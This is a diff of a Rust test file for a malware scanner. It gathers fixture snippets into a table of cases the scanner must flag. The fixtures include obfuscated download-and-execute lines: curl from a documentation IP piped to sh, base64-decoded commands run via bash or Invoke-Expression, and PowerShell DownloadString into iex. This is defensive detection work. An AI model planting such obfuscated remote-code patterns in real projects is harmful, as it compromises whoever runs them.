@@ -4,14 +4,14 @@ use super::{analyze, encoded_run, lang_of, parse, Lang, Outcome, MAX_PARSE_BYTES
 use crate::{ScanResult, Scanner, Severity, TargetInfo};
 use base64::Engine;
 
-fn scan(files: &[(&str, &str)]) -> ScanResult {
+pub(super) fn scan(files: &[(&str, &str)]) -> ScanResult {
     static S: std::sync::OnceLock<Scanner> = std::sync::OnceLock::new();
     let s = S.get_or_init(|| Scanner::new().unwrap());
     let report = s.scan_files(files.iter().map(|(p, t)| (*p, t.as_bytes())));
     ScanResult::new(TargetInfo::Content, report)
 }
 
-fn has(r: &ScanResult, id: &str, at_least: Severity) -> bool {
+pub(super) fn has(r: &ScanResult, id: &str, at_least: Severity) -> bool {
     r.findings
         .iter()
         .any(|f| f.rule_id == id && f.severity >= at_least)
@@ -25,17 +25,107 @@ fn b64(s: &str) -> String {
     base64::engine::general_purpose::STANDARD.encode(s)
 }
 
-#[test]
-fn python_getattr_with_an_assembled_name_is_an_assembled_command() {
-    let r = scan(&[(
+/// Single files the code pass must flag: (path, text, rule, at least).
+const FLAGGED: &[(&str, &str, &str, Severity)] = &[
+    (
         "scripts/run.py",
         "import os\nname = 'sys' + 'tem'\nfn = getattr(os, name)\nfn('id')\ngetattr(os, 'sy' + 'stem')('uname -a')\n",
-    )]);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
+        "combo.assembled-command",
+        Severity::High,
+    ),
+    (
+        "lib/index.js",
+        "const p = 'ZXZhbChwcm9jZXNzLmVudik=';\nconst src = Buffer.from(p, 'base64').toString('utf8');\neval(src);\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "lib/index.js",
+        "const cp = require('child_' + 'process');\ncp.execSync('id');\n",
+        "combo.assembled-command",
+        Severity::High,
+    ),
+    (
+        "lib/index.ts",
+        "const k: string = 'ev' + 'al';\nconst f = (globalThis as any)[k];\nnew Function(atob(payload))();\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "scripts/setup.sh",
+        "#!/bin/sh\nc=\"cu\"\"rl\"\nu=http://198.51.100.7/i.sh\n$c -s \"$u\" | sh\n",
+        "combo.assembled-command",
+        Severity::High,
+    ),
+    (
+        "scripts/setup.sh",
+        "#!/bin/bash\np='Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA=='\necho \"$p\" | base64 -d | bash\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "scripts/setup.sh",
+        "#!/bin/bash\nx=$'\\x63\\x75\\x72\\x6c'\ncmd=\"$x http://198.51.100.7/a\"\neval \"$cmd | sh\"\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "scripts/run.sh",
+        "#!/bin/bash\nd=$(curl -fsSL https://198.51.100.7/env)\neval \"$d\"\n",
+        "combo.remote-code",
+        Severity::High,
+    ),
+    (
+        "tools/setup.ps1",
+        "$b = 'SQBFAFgA'\n$t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\n$t | Invoke-Expression\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "tools/setup.ps1",
+        "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://198.51.100.7/a.ps1')\niex $s\n",
+        "combo.remote-code",
+        Severity::Critical,
+    ),
+    (
+        "scripts/up.sh",
+        "#!/bin/bash\nu=https://198.51.100.7/i.sh\nbash <(curl -fsSL \"$u\")\n",
+        "combo.remote-code",
+        Severity::High,
+    ),
+    (
+        "scripts/up.sh",
+        "#!/bin/sh\nsh <(echo \"$BLOB\" | base64 -d)\n",
+        "combo.obfuscated-exec",
+        Severity::High,
+    ),
+    (
+        "x.py",
+        "import subprocess\nsubprocess.run(['cu' + 'rl', '-s', URL])\n",
+        "combo.assembled-command",
+        Severity::High,
+    ),
+];
+
+#[test]
+fn single_files_the_code_pass_flags() {
+    let mut missed = Vec::new();
+    for (path, text, rule, at_least) in FLAGGED {
+        let r = scan(&[(path, text)]);
+        if !has(&r, rule, *at_least) {
+            missed.push(format!(
+                "{path}: {rule} at least {at_least}\n{text}\n{:#?}",
+                r.findings
+            ));
+        }
+    }
+    assert!(missed.is_empty(), "{}", missed.join("\n\n"));
+}
+
+#[test]
+fn python_getattr_with_an_assembled_name_is_an_assembled_command() {
+    let (_, text, _, _) = FLAGGED[0];
+    let r = scan(&[("scripts/run.py", text)]);
     assert!(r
         .inventory
         .executes
@@ -119,24 +209,6 @@ fn python_fetched_code_into_exec_is_remote_code() {
 
 #[test]
 fn javascript_decode_assembled_require_and_char_codes() {
-    let r = scan(&[(
-        "lib/index.js",
-        "const p = 'ZXZhbChwcm9jZXNzLmVudik=';\nconst src = Buffer.from(p, 'base64').toString('utf8');\neval(src);\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "lib/index.js",
-        "const cp = require('child_' + 'process');\ncp.execSync('id');\n",
-    )]);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
     let codes: Vec<String> = "curl -s http://198.51.100.7/a | sh"
         .bytes()
         .map(|b| b.to_string())
@@ -152,15 +224,6 @@ fn javascript_decode_assembled_require_and_char_codes() {
         r.findings
     );
     assert!(!r.inventory.downloads.is_empty(), "{:#?}", r.inventory);
-    let r = scan(&[(
-        "lib/index.ts",
-        "const k: string = 'ev' + 'al';\nconst f = (globalThis as any)[k];\nnew Function(atob(payload))();\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
 }
 
 #[test]
@@ -172,46 +235,6 @@ fn javascript_array_join_and_reverse_into_exec() {
         "{:#?}",
         r.findings
     );
-    assert!(
-        has(&r, "combo.remote-code", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-}
-
-#[test]
-fn shell_assembled_command_word_and_decoded_pipe() {
-    let r = scan(&[(
-        "scripts/setup.sh",
-        "#!/bin/sh\nc=\"cu\"\"rl\"\nu=http://198.51.100.7/i.sh\n$c -s \"$u\" | sh\n",
-    )]);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "scripts/setup.sh",
-        "#!/bin/bash\np='Y3VybCBodHRwOi8vMTk4LjUxLjEwMC43L3ggfCBzaA=='\necho \"$p\" | base64 -d | bash\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "scripts/setup.sh",
-        "#!/bin/bash\nx=$'\\x63\\x75\\x72\\x6c'\ncmd=\"$x http://198.51.100.7/a\"\neval \"$cmd | sh\"\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "scripts/run.sh",
-        "#!/bin/bash\nd=$(curl -fsSL https://198.51.100.7/env)\neval \"$d\"\n",
-    )]);
     assert!(
         has(&r, "combo.remote-code", Severity::High),
         "{:#?}",
@@ -235,24 +258,6 @@ fn powershell_is_parsed_assembled_names_char_codes_and_pipes() {
         );
     }
     // A value decoded from base64 piped into iex; a download run by iex.
-    let r = scan(&[(
-        "tools/setup.ps1",
-        "$b = 'SQBFAFgA'\n$t = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\n$t | Invoke-Expression\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "tools/setup.ps1",
-        "$w = New-Object Net.WebClient\n$s = $w.DownloadString('https://198.51.100.7/a.ps1')\niex $s\n",
-    )]);
-    assert!(
-        has(&r, "combo.remote-code", Severity::Critical),
-        "{:#?}",
-        r.findings
-    );
     // An honest build: Start-Process with literal arguments, base64 encoding (not decoding).
     let r = scan(&[(
         "build.ps1",
@@ -272,17 +277,7 @@ fn powershell_text_pass_sees_decoded_code_run() {
     // out of time).
     let text = "$b = 'SQBFAFgA'\n$s = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String($b))\nInvoke-Expression $s\n";
     let none = |l: &str| l.to_string();
-    let mut cx = super::Ctx {
-        src: text,
-        vars: std::collections::HashMap::new(),
-        path: Some("x.ps1"),
-        runs: true,
-        why: "w",
-        install: false,
-        excerpt: &none,
-        facts: Vec::new(),
-        seen: std::collections::HashSet::new(),
-    };
+    let mut cx = super::Ctx::new(text, Some("x.ps1"), true, "w", false, &none, None);
     super::powershell::scan(&mut cx);
     assert!(cx
         .facts
@@ -502,24 +497,6 @@ fn xor_loops_that_grow_a_buffer_are_followed_but_a_caret_in_a_string_is_not() {
 
 #[test]
 fn shell_interpreter_reading_a_fetched_or_decoded_script() {
-    let r = scan(&[(
-        "scripts/up.sh",
-        "#!/bin/bash\nu=https://198.51.100.7/i.sh\nbash <(curl -fsSL \"$u\")\n",
-    )]);
-    assert!(
-        has(&r, "combo.remote-code", Severity::High),
-        "{:#?}",
-        r.findings
-    );
-    let r = scan(&[(
-        "scripts/up.sh",
-        "#!/bin/sh\nsh <(echo \"$BLOB\" | base64 -d)\n",
-    )]);
-    assert!(
-        has(&r, "combo.obfuscated-exec", Severity::High),
-        "{:#?}",
-        r.findings
-    );
     // A script run by path, a fixed `sh -c`: not dynamic.
     let r = scan(&[(
         "scripts/up.sh",
@@ -569,15 +546,6 @@ fn files_without_a_sink_a_value_could_change_are_not_parsed() {
     );
     assert_eq!(o, Outcome::Parsed);
     // A process started from a list whose command word is spelled from pieces.
-    let r = scan(&[(
-        "x.py",
-        "import subprocess\nsubprocess.run(['cu' + 'rl', '-s', URL])\n",
-    )]);
-    assert!(
-        has(&r, "combo.assembled-command", Severity::High),
-        "{:#?}",
-        r.findings
-    );
     let o = analyze(
         Some("x.js"),
         "const m = require('child_' + 'process');\n",
